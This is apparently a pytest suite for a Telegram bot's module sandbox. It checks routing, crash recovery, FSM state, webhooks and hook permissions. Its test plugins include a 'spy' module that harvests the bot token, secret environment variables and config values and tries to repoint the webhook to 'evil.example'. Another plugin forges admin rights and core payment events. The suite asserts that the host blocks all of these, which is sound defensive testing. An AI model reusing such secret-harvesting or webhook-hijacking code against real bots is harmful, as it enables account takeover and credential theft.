"""Module routers, Bot API, FSM, sessions, webhooks and fast flows across the process boundary.

Real module processes, real aiogram polling the local Bot API server, real PostgreSQL. The host
side here is a bare Dispatcher (module router, then a stand-in "core" router) so these tests
are about the bridge; tests/test_e2e_*.py run the same paths through the full Solobot core.
"""

from __future__ import annotations

import asyncio
import os
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path

import aiohttp
import pytest
from aiogram import Bot, Dispatcher, F, Router
from aiogram.client.session.aiohttp import AiohttpSession
from aiogram.client.telegram import TelegramAPIServer
from aiogram.fsm.storage.memory import MemoryStorage
from aiogram.types import CallbackQuery, Message
from aiohttp import web

from host.web import build_web_app
from local_bot_api import LocalBotAPI
from runtime import HostServices, ModuleRuntime, RuntimeConfig
from runtime.aiogram_bridge import user_texts
from runtime.aiogram_bridge.update_forwarding import modules_router
from tests.conftest import ModuleFolder, wait_until
from tests.shared_zygote import ThreadedZygote

pytestmark = [pytest.mark.anyio, pytest.mark.timeout(90)]


@dataclass
class Bridge:
    api: LocalBotAPI
    bot: Bot
    runtime: ModuleRuntime
    web_url: str


def core_stand_in() -> Router:
    router = Router(name="core")

    @router.message(F.text == "/core")
    async def core_text(message: Message) -> None:
        await message.answer("core answered")

    @router.callback_query()
    async def core_fallback(callback: CallbackQuery) -> None:
        await callback.answer("core fallback")

    return router


@asynccontextmanager
async def open_bridge(modules: ModuleFolder, db: str, tmp_path: Path, zygote: ThreadedZygote | None) -> AsyncIterator[Bridge]:
    """The modules router and webhooks of a runtime forking from ``zygote`` (None: its own)."""
    async with LocalBotAPI() as api:
        bot = Bot(api.token, session=AiohttpSession(api=TelegramAPIServer.from_base(api.base_url)))
        storage = MemoryStorage()
        services = HostServices(bot=bot, fsm_storage=storage, database_url=db, settings={"ADMIN_ID": [1]})
        config = RuntimeConfig(update_timeout=3.0, webhook_timeout=1.5)
        runtime = ModuleRuntime(
            modules.root, state_file=tmp_path / "state.json", config=config, services=services, zygote=zygote, sandbox=False
        )
        async with runtime as rt:
            dp = Dispatcher(storage=storage)
            dp.include_routers(modules_router(rt), core_stand_in())
            runner = web.AppRunner(build_web_app(rt))
            await runner.setup()
            site = web.TCPSite(runner, "127.0.0.1", 0)
            await site.start()
            port = runner.addresses[0][1]
            polling = asyncio.create_task(dp.start_polling(bot, handle_signals=False, close_bot_session=False, polling_timeout=1))
            try:
                yield Bridge(api, bot, rt, f"http://127.0.0.1:{port}")
            finally:
                await dp.stop_polling()
                await asyncio.gather(polling, return_exceptions=True)
                await runner.cleanup()
        await bot.session.close()


COUNTER = """
from aiogram import F, Router
from aiogram.types import CallbackQuery, InlineKeyboardButton, InlineKeyboardMarkup, Message
from aiogram.filters import Command

router = Router()
CRASH_BUTTON = False

def kb(n):
    row = [InlineKeyboardButton(text="+1", callback_data=f"counter|{n}")]
    if CRASH_BUTTON:
        row.append(InlineKeyboardButton(text="boom", callback_data="counter_crash"))
    return InlineKeyboardMarkup(inline_keyboard=[row])

@router.message(Command("counter"))
async def start(message: Message, admin: bool = False):
    await message.answer(f"count 0 admin={admin}", reply_markup=kb(0))

@router.callback_query(F.data.startswith("counter|"))
async def inc(callback: CallbackQuery):
    n = int(callback.data.split("|")[1]) + 1
    await callback.message.edit_text(f"count {n}", reply_markup=kb(n))
    await callback.answer(f"now {n}")

@router.callback_query(F.data == "counter_crash")
async def crash(callback: CallbackQuery):
    import os
    os._exit(3)
"""


async def test_module_router_answers_through_the_host(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    modules.add("counter", COUNTER)
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        await _count_twice(bridge)


async def _count_twice(bridge: Bridge) -> None:
    user = bridge.api.user(100)
    await user.send("/counter")
    reply = await user.wait_for_reply()
    assert reply.text == "count 0 admin=False"
    await user.press("+1")
    edited = await user.wait_until(lambda u: u.last_message if u.last_message.text == "count 1" else None)
    assert edited.buttons == ["+1"]
    await user.wait_until(lambda u: {"text": "now 1"} in [{"text": a.get("text")} for a in u.callback_answers])


async def test_updates_no_module_matches_reach_the_core(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    modules.add("counter", COUNTER)
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        user = bridge.api.user(101)
        await user.send("/core")
        assert (await user.wait_for_reply()).text == "core answered"


async def test_a_module_dying_mid_update_gets_the_user_an_answer_and_comes_back(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    modules.add("counter", COUNTER.replace("CRASH_BUTTON = False", "CRASH_BUTTON = True"))
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        user = bridge.api.user(102)
        await user.send("/counter")
        await user.wait_for_reply()
        pid = bridge.runtime.module_status("counter")["pid"]
        await user.press("boom")
        answer = await user.wait_until(lambda u: u.callback_answers[-1] if u.callback_answers else None)
        assert answer["text"] == user_texts.MODULE_UNAVAILABLE and answer["show_alert"] is True
        await wait_until(  # a new process: not the moment the old one is gone and the status shows no pid yet
            lambda: (
                bridge.runtime.module_status("counter")["state"] == "running"
                and bridge.runtime.module_status("counter")["pid"] not in (None, pid)
            )
        )
        await user.press("+1")
        await user.wait_until(lambda u: u.last_message.text == "count 1", timeout=30)  # a fresh process, on a loaded machine


SECRETS = """
import os
from aiogram import F, Router
from aiogram.types import CallbackQuery, Message
from aiogram.filters import Command

router = Router()

@router.message(Command("secrets"))
async def secrets(message: Message, bot):
    from bot import bot as shared_bot
    import config
    env = sorted(k for k in os.environ if "TOKEN" in k or "DATABASE" in k)
    secrets = ("host-secret", ":TEST", "postgresql")
    names = sorted(n for n, v in vars(config).items() if any(s in repr(v) for s in secrets))
    await message.answer(f"token={bot.token} shared={shared_bot is bot} env={env} config={names} admins={config.ADMIN_ID}")

@router.message(Command("hijack"))
async def hijack(message: Message, bot):
    from aiogram.exceptions import TelegramForbiddenError
    try:
        await bot.set_webhook("https://evil.example/hook")
    except TelegramForbiddenError as exc:
        await message.answer(f"refused: {exc.message}")
"""


async def test_the_token_never_reaches_a_module_and_bot_wide_methods_are_refused(
    modules: ModuleFolder, db: str, tmp_path: Path
) -> None:
    modules.add("spy", SECRETS)
    os.environ["BOT_TOKEN"] = "42:host-secret"  # the host's environment has it; the module's must not
    try:
        async with open_bridge(modules, db, tmp_path, None) as bridge:  # a zygote started with the token in the environment
            user = bridge.api.user(103)
            await user.send("/secrets")
            text = (await user.wait_for_reply()).text
            bot_id = bridge.bot.id
            assert text == f"token={bot_id}:sandbox shared=True env=[] config=[] admins=[1]"
            assert bridge.api.token.split(":")[1] not in text
            await user.send("/hijack")
            refused = (await user.wait_for_reply()).text
            assert refused.startswith("refused: Forbidden: module 'spy' may not call setWebhook")
            assert not bridge.api.world.webhook.get("url")
    finally:
        del os.environ["BOT_TOKEN"]


FSM_AND_DB = {
    "models.py": """
from datetime import datetime
from sqlalchemy import BigInteger, Column, DateTime, ForeignKey, String
from database.models import Base

class Note(Base):
    __tablename__ = "notes_module_notes"
    tg_id = Column(BigInteger, ForeignKey("users.tg_id", ondelete="CASCADE"), primary_key=True)
    text = Column(String)
    created_at = Column(DateTime, default=datetime.utcnow)
""",
    "__init__.py": "from .router import router\nfrom . import models  # noqa: F401\n",
}

NOTES = """
from aiogram import F, Router
from aiogram.filters import Command, StateFilter
from aiogram.fsm.context import FSMContext
from aiogram.fsm.state import State, StatesGroup
from aiogram.types import CallbackQuery, InlineKeyboardButton, InlineKeyboardMarkup, Message
from sqlalchemy import select
from sqlalchemy.dialects.postgresql import insert

from database import add_user
from hooks.hooks import register_hook
from .models import Note

router = Router()

class NoteStates(StatesGroup):
    waiting_text = State()

@router.message(Command("note"))
async def ask(message: Message, state: FSMContext):
    await state.set_state(NoteStates.waiting_text)
    await message.answer("send the note", reply_markup=InlineKeyboardMarkup(
        inline_keyboard=[[InlineKeyboardButton(text="cancel", callback_data="note_cancel")]]))

@router.callback_query(F.data == "note_cancel")
async def cancel(callback: CallbackQuery, state: FSMContext):
    await state.clear()
    await callback.message.edit_text("cancelled")

@router.message(NoteStates.waiting_text)
async def save(message: Message, state: FSMContext, session):
    await add_user(session, message.from_user.id, username=message.from_user.username)
    await session.execute(insert(Note).values(tg_id=message.from_user.id, text=message.text)
                          .on_conflict_do_nothing(index_elements=[Note.tg_id]))
    await state.clear()
    await message.answer(f"saved {message.text}")

async def profile_menu(chat_id, session, **kwargs):
    note = (await session.execute(select(Note.text).where(Note.tg_id == chat_id))).scalar_one_or_none()
    return {"button": InlineKeyboardButton(text=f"note: {note}", callback_data="note_show")} if note else None

register_hook("profile_menu", profile_menu)
"""


async def test_fsm_in_the_host_storage_and_a_session_per_update_in_the_module(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    modules.add("notes", NOTES, **FSM_AND_DB)
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        user = bridge.api.user(104)
        await user.send("remember me")  # no state: the module's state handler is not asked
        await user.send("/note")
        assert (await user.wait_for_reply()).text == "send the note"
        await user.send("buy milk")
        assert (await user.wait_for_reply()).text == "saved buy milk"
        # The hook gets a session of its own in the module process and sees the committed row.
        from sqlalchemy.ext.asyncio import AsyncSession

        from database import async_session_maker

        async with async_session_maker() as session:
            assert isinstance(session, AsyncSession)
            results = await bridge.runtime.run_hooks("profile_menu", chat_id=104, admin=False, session=session)
        assert [r["button"].text for r in results] == ["note: buy milk"]
        # Cancel clears the state: plain text is no longer the module's.
        await user.send("/note")
        await user.wait_for_reply()
        await user.press("cancel")
        await user.wait_until(lambda u: u.last_message.text == "cancelled")
        await user.send("/core")
        assert (await user.wait_for_reply()).text == "core answered"


WEBHOOK = """
import asyncio
from aiohttp import web
from aiogram import Router

router = Router()

async def handler(request: web.Request) -> web.Response:
    payload = await request.json()
    if payload.get("sleep"):
        await asyncio.sleep(payload["sleep"])
    return web.json_response({"got": payload, "path": request.path, "q": request.query.get("x"),
                              "sig": request.headers.get("X-Signature")}, status=201)

def get_webhook_data():
    return {"path": "/api/{name}", "handler": handler}
"""


async def test_module_webhooks_are_served_by_the_host(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    modules.add("payhook", WEBHOOK.replace("{name}", "payhook"))
    modules.add("twin_a", WEBHOOK.replace("{name}", "twin"))  # one path, two modules: served for neither
    modules.add("twin_b", WEBHOOK.replace("{name}", "twin"))
    modules.add("health", WEBHOOK.replace("/api/{name}", "/healthz"))  # the core's path: refused
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge, aiohttp.ClientSession() as http:
        async with http.post(f"{bridge.web_url}/api/twin", json={}) as response:
            assert response.status == 404  # load order does not pick a winner
        url = f"{bridge.web_url}/api/payhook"
        async with http.post(url + "?x=1", json={"amount": 5}, headers={"X-Signature": "abc"}) as response:
            assert response.status == 201
            assert await response.json() == {"got": {"amount": 5}, "path": "/api/payhook", "q": "1", "sig": "abc"}
        async with http.get(f"{bridge.web_url}/healthz") as response:
            health = await response.json()
            assert health["ok"] is True and health["sandboxed"] is False  # this bridge opted out
        async with http.get(url) as response:
            assert response.status == 405
        async with http.post(url, data=b"x" * (bridge.runtime.config.webhook_max_body + 10)) as response:
            assert response.status == 413
        async with http.post(url, json={"sleep": 5}) as response:
            assert response.status == 504
        await bridge.runtime.stop("payhook")
        async with http.post(url, json={"amount": 1}) as response:
            assert response.status == 503
        async with http.post(f"{bridge.web_url}/api/nothing", json={}) as response:
            assert response.status == 404


FAST_FLOW = """
from aiogram import Router
from aiogram.types import CallbackQuery

router = Router()

async def pay(callback_or_message, session, **kwargs):
    state = kwargs.get("state")
    data = await state.get_data() if state else {}
    amount = kwargs.get("amount")
    await callback_or_message.message.answer(f"fast flow amount={amount} data={data} session={type(session).__name__}")

def get_fast_flow_handler():
    return {"payment_key": "quick", "handler": pay}
"""


async def test_fast_flow_handlers_run_in_the_module_process(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    modules.add("quickpay", FAST_FLOW)
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        from aiogram.fsm.context import FSMContext
        from aiogram.fsm.storage.base import StorageKey

        from runtime.aiogram_bridge.fast_flows import fast_flow_handlers

        handlers = fast_flow_handlers(bridge.runtime)
        assert list(handlers) == ["quick"]
        user = bridge.api.user(105)
        await user.send("/core")
        message = await user.wait_for_reply()
        storage = bridge.runtime.services.fsm_storage
        state = FSMContext(storage, StorageKey(bridge.bot.id, user.id, user.id))
        await state.update_data(plan="month")
        from aiogram.types import CallbackQuery, Chat, User
        from aiogram.types import Message as TgMessage

        chat = Chat(id=user.id, type="private")
        tg_message = TgMessage(message_id=message.message_id, date=0, chat=chat, text=message.text)
        callback = CallbackQuery(
            id="1",
            from_user=User(id=user.id, is_bot=False, first_name="u"),
            chat_instance="1",
            message=tg_message,
            data="pay|quick",
        )
        await handlers["quick"](callback, None, state=state, amount=150)
        reply = await user.wait_for_reply()
        assert reply.text == "fast flow amount=150 data={'plan': 'month'} session=AsyncSession"


async def test_the_module_gets_its_fsm_state_with_the_update_and_does_not_ask_again(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote
) -> None:
    # aiogram's FSM middleware in the module reads the state on every update; the host sends the
    # module's own state along, so no read comes back over the channel (writes still do).
    modules.add("notes", NOTES, **FSM_AND_DB)
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        gateway = bridge.runtime.services.fsm_gateway
        assert gateway is not None
        seen: list[str] = []
        real_call = gateway.call

        async def recording_call(module: str, request: dict) -> object:
            seen.append(request["op"])
            return await real_call(module, request)

        gateway.call = recording_call  # type: ignore[method-assign]
        user = bridge.api.user(105)
        await user.send("/note")  # forwarded: the module sets a state
        assert (await user.wait_for_reply()).text == "send the note"
        await user.send("buy bread")  # forwarded by state: the module saves and clears it
        assert (await user.wait_for_reply()).text == "saved buy bread"
        assert "set_state" in seen, seen  # the module's writes go to the host
        assert "get_state" not in seen, seen  # its reads of the state were answered from the update


ASKER = """
from aiogram import F, Router
from aiogram.types import Message
from hooks.hooks import run_hooks

router = Router()

@router.message(F.text == "/ask")
async def ask(message: Message):
    own = await run_hooks("whoami", admin=True, chat_id=message.from_user.id, admin_role="superadmin")
    try:
        other = list(await run_hooks("whoami", admin=True, chat_id=message.from_user.id + 1))
    except Exception as exc:
        other = type(exc).__name__
    paid = list(await run_hooks("payment_success", user_id=message.from_user.id, amount=1000))
    await message.answer(f"own={list(own)} other={other} paid={paid}")
"""

TELLER = """
from aiogram import Router
from hooks.hooks import register_hook

router = Router()

@register_hook("whoami")
def whoami(chat_id=None, admin=None, admin_role=None, **kwargs):
    return f"admin={admin} role={admin_role} chat={chat_id}"

@register_hook("payment_success")
def credit(user_id=None, amount=None, **kwargs):
    return f"credited {amount} to {user_id}"
"""


async def test_a_module_firing_hooks_cannot_vouch_for_admin_users_or_core_events(
    modules: ModuleFolder, db: str, tmp_path: Path, shared_zygote: ThreadedZygote, caplog: pytest.LogCaptureFixture
) -> None:
    modules.add("asker", ASKER)
    modules.add("teller", TELLER)
    async with open_bridge(modules, db, tmp_path, shared_zygote) as bridge:
        user = bridge.api.user(120)
        await user.send("/ask")
        reply = await user.wait_for_reply()
    # admin=True and admin_role from the module: replaced and dropped (the user is no admin);
    # another user's chat_id while serving user 120: refused; payment_success: the core's event.
    assert reply.text == "own=['admin=False role=None chat=120'] other=[] paid=[]", reply.text
    logged = [r.getMessage() for r in caplog.records if r.getMessage().startswith("[module asker] run_hooks")]
    assert any("admin=True replaced by the host's False" in m and "admin_role dropped" in m for m in logged), logged
    assert any("with chat_id=121 while handling an update of user 120" in m for m in logged), logged
    assert any("may not fire the core's hook 'payment_success'" in m and "call_hooks" in m for m in logged), logged
